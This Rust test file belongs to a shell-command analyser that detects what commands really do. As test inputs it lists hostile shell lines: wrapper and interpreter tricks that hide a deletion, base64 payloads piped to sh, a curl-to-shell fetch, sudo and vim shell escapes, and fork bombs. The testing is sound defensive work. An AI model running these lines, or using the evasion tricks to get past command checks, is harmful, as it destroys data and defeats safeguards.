//! How calls are understood: names, wrappers, places, code that is handed on.

use alloc::string::String;
use alloc::vec::Vec;

use super::{deeds, deeds_on, effects, evaluated};
use crate::tests::Table;

fn has(text: &str, deed: &str) -> bool {
    deeds(text).iter().any(|d| d.split(" by ").next() == Some(deed))
}

#[test]
fn a_call_is_named_with_its_subcommands() {
    for (text, deed) in [
        ("git push", "run git push"),
        ("ls", "run ls"),
        ("/bin/ls", "run ls"),
        ("docker compose up", "run docker compose"),
        ("git -C x status", "run git status"),
        ("git", "run git"),
        ("RM x", "delete /home/ann/proj/x"),
        ("python3.11 -c 'import os; os.remove(\"x\")'", "delete /home/ann/proj/x"),
        ("git-push", "run git push"),
        ("git-reset --hard", "run git reset"),
        ("/usr/lib/git-core/git-push", "run git push"),
        ("\"$X/git-push\"", "run git push"),
        ("git-nothing", "run git-nothing"),
    ] {
        assert!(has(text, deed), "{text}: {:?}", deeds(text));
    }
    assert!(!has("git-lfs push", "run git push"));
}

#[test]
fn words_go_to_what_a_wrapper_starts() {
    const X: &str = "delete /home/ann/proj/x";
    for text in [
        "sudo rm x",
        "sudo -u bob rm x",
        "env A=b rm x",
        "env -S 'rm x'",
        "env -S 'rm -f' x",
        "nice -n 5 rm x",
        "timeout 5 rm x",
        "xargs -n1 rm x",
        "command rm x",
        "builtin command rm x",
        "busybox rm x",
        "nohup rm x",
        "setsid rm x",
        "stdbuf -o0 rm x",
        "sh -c 'rm x'",
        "sh -c 'rm \"$1\"' a x",
        "sh -c 'rm \"$0\"' x",
        "sh -c'rm x'",
        "bash -lc 'rm x'",
        "bash <<< 'rm x'",
        "echo 'rm x' | bash -s",
        "echo 'rm \"$1\"' | bash -s x",
        "echo 'rm x' | bash -",
        "bash <(echo 'rm x')",
        "exec 3< <(echo 'rm x'); bash /dev/fd/3",
        "eval rm x",
        "command_not_found_handle() { rm x; }; nothing-known",
        "f() { rm \"$1\"; }; f x",
        "coproc rm x",
        "ssh localhost true; rm x",
        "find . -maxdepth 0 -exec sh -c 'rm x' ';'",
        "cat <<E | sh\nrm x\nE",
    ] {
        assert!(has(text, X), "{text}: {:?}", deeds(text));
    }
    for text in [
        "sh -c 'ls' rm x",
        "f() { rm x; }; sudo f",
        "sh -s 'rm x' < /dev/null",
        "echo 'rm x' | cat",
        "f() { rm x; }; unset f; f",
        "timeout rm",
    ] {
        assert!(!has(text, X), "{text}: {:?}", deeds(text));
    }
}

#[test]
fn everything_happens_where_a_program_is_told_to_go() {
    for (text, deed) in [
        ("env -C /d rm x", "delete /d/x"),
        ("env -C d rm x", "delete /home/ann/proj/d/x"),
        ("env -C /d true; rm x", "delete /home/ann/proj/x"),
        ("make -C /d x; rm x", "delete /home/ann/proj/x"),
        ("tar -C /d -xf a", "write /d"),
    ] {
        assert!(has(text, deed), "{text}: {:?}", deeds(text));
    }
    assert!(!has("env -C \"$X\" rm x", "delete /home/ann/proj/x"));
}

#[test]
fn a_shell_to_type_into_is_told_where_none_should_be() {
    let escapes = |text: &str| effects(text).join("\n").contains("escape-shell");
    for text in [
        "find . -exec sh ';'",
        "sudo bash",
        "sudo sh -i",
        "vim -c ':!sh'",
        "awk 'BEGIN { system(\"sh\") }'",
        "doas sh",
        "busybox sh",
    ] {
        assert!(escapes(text), "{text}: {:?}", effects(text));
    }
    for text in [
        "sh",
        "bash -l",
        "sudo bash a.sh",
        "sudo sh -c ls",
        "echo ls | sudo sh",
        "docker exec -it c sh",
        "ssh h sudo sh",
        "kubectl exec p -- sh",
    ] {
        assert!(!escapes(text), "{text}: {:?}", effects(text));
    }
    let script = Table::new().with_file("a.sh", "sh");
    assert!(!super::effects_on(script, "sh a.sh").join("\n").contains("escape-shell"));
}

#[test]
fn code_gets_what_it_is_given() {
    const X: &str = "delete /home/ann/proj/x";
    let python = |text: &str| deeds(text).iter().any(|d| d.starts_with(X));
    for text in [
        "python3 -c 'import os, sys; os.remove(sys.argv[1])' x",
        "echo 'import os; os.remove(\"x\")' | python3",
        "echo 'import os; os.remove(\"x\")' | python3 -",
        "python3 <<E\nimport os\nos.remove('x')\nE",
        "perl -e 'unlink \"x\"'",
        "perl -e 'unlink $ARGV[0]' x",
        "perl -e '1;' -e 'unlink \"x\"'",
        "awk -v f=x 'BEGIN { system(\"rm \" f) }'",
        "node -e 'require(\"fs\").unlinkSync(\"x\")'",
        "ruby -e 'File.delete(ARGV[0])' x",
        "uv run python -c 'import os; os.remove(\"x\")'",
        "echo x | xargs -I{} python3 -c 'import os; os.remove(\"{}\")'",
    ] {
        assert!(python(text), "{text}: {:?}", deeds(text));
    }
    let file = || Table::new().with_file("a.py", "import os\nos.remove('x')\n");
    for text in ["python3 a.py", "uv run a.py", "python3 - < a.py", "python3 ./a.py b"] {
        let all = deeds_on(file(), text);
        assert!(all.iter().any(|d| d.starts_with(X)), "{text}: {all:?}");
    }
}

#[test]
fn what_a_text_opened_is_read_from_its_number() {
    const X: &str = "delete /home/ann/proj/x";
    for (text, expected) in [
        ("exec 5<<< 'rm x'; sh /dev/fd/5", true),
        ("exec 5<<< 'rm x'; sh /proc/self/fd/5", true),
        ("exec 5<<< 'rm x'; sh /dev/fd/6", false),
        ("exec 5<<< 'rm x'; sh /dev/fd/x", false),
        ("exec <<< 'rm x'; sh", true),
        ("exec <<< 'rm x'; sh /dev/stdin", true),
    ] {
        assert_eq!(has(text, X), expected, "{text}: {:?}", deeds(text));
    }
}

#[test]
fn hidden_code_is_told_beside_what_it_does() {
    let hidden = |text: &str| deeds(text).iter().any(|d| d.starts_with("do code.hidden"));
    assert!(hidden("echo bHM= | base64 -d | sh"));
    assert!(hidden("eval \"$(echo bHM= | base64 -d)\""));
    assert!(!hidden("echo ls | sh"));
    assert!(!hidden("echo bHM= | base64 -d"));
    let unknown = |text: &str| {
        effects(text)
            .into_iter()
            .filter(|e| e.starts_with("run-unknown"))
            .collect::<Vec<String>>()
            .join("\n")
    };
    for (text, labels) in [
        ("curl https://h.example/x | sh", &["shell-code", "network"][..]),
        ("curl https://h.example/x | python3", &["other-code", "network"]),
        ("sh -c \"$X\"", &["shell-code", "variable"]),
        ("sh -c \"ls $X\"", &["shell-code", "partly-known"]),
        ("psql -c \"$X\"", &["data-code", "variable"]),
        ("base64 -d f | sh", &["shell-code", "decoded"]),
    ] {
        let all = unknown(text);
        assert!(labels.iter().all(|label| all.contains(label)), "{text}: {all}");
    }
    assert!(!unknown("sh -c \"$X\"").contains("partly-known"));
    assert!(has("sh -c \"rm x; $X\"", "delete /home/ann/proj/x"));
}

#[test]
fn a_function_that_starts_itself_twice_in_the_background_is_a_bomb() {
    let bomb = |text: &str| deeds(text).iter().any(|d| d.starts_with("do fork.bomb"));
    for text in [
        ":(){ :|:& };:",
        "f() { f | f & }; f",
        "f() ( f | f & )",
        "f() { ${0} f; f & f & }",
    ] {
        assert!(bomb(text), "{text}");
    }
    for text in [
        "f() { f & }",
        "f() { f | f; }",
        "f() { g | g & }",
        "f() { echo f | cat f & }",
    ] {
        assert!(!bomb(text), "{text}");
    }
}

#[test]
fn a_call_in_the_same_state_shows_nothing_new() {
    let calls = |text: &str| evaluated(text, |eval, _| eval.spent);
    assert!(calls("f() { f; }; f") < 40);
    assert!(calls("f() { f \"$1$X\"; }; f a") < 60);
    // What is known of an argument is told apart in the first calls.
    assert!(has("f() { rm $1; }; f /a/$X", "delete /a/…"));
    assert!(has("f() { rm $1; f /b/$X; }; f /a/$X", "delete /b/…"));
    assert!(has(
        "f() { rm $1; [ $1 = xx ] || f x$1; }; f x",
        "delete /home/ann/proj/xx"
    ));
}
